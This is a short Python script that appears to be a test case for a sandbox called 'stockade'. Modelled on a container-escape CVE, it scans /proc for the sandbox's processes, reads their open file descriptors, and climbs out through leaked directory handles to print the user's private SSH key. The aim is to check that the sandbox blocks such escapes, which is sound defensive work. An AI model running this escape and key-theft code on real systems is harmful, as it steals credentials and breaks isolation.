# family: injection
# tries: go through the descriptors the sandbox's own processes hold (/proc/PID/fd/*, argv[0] named stockade*): print the files they have open and climb out of their directories to the user's SSH key
# source: https://nvd.nist.gov/vuln/detail/CVE-2024-21626
# exfil: yes
# stopped-when: canary-unread
# attempted-when: marker
import os
import sys

if len(sys.argv) < 9:
    sys.exit("usage: TOKEN HOME HOSTTMP TCP UDP UNIX DECOY USERFILES")
print(f"ATTEMPTED {sys.argv[1]}", file=sys.stderr, flush=True)
key = os.path.join(sys.argv[2], ".ssh", "id_ed25519")
for pid in sorted(p for p in os.listdir("/proc") if p.isdigit()):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            if not os.path.basename(f.read().split(b"\0")[0]).startswith(b"stockade"):
                continue
        fds = os.listdir(f"/proc/{pid}/fd")
    except OSError as e:
        print(f"{pid}: {e.strerror}")
        continue
    for fd in fds:
        link = f"/proc/{pid}/fd/{fd}"
        try:
            target = os.readlink(link)
            if os.path.isdir(link):
                rel = os.path.relpath(key, target) if target.startswith("/") else None
                print(f"{link} -> {target}: {sorted(os.listdir(link))[:20]}")
                if rel:
                    with open(os.path.join(link, rel)) as f:
                        print(f.read())
            elif os.path.isfile(link):
                with open(link, "rb") as f:
                    print(f"{link} -> {target}:\n" + f.read(4096).decode(errors="replace"))
        except OSError as e:
            print(f"{link}: {e.strerror}")
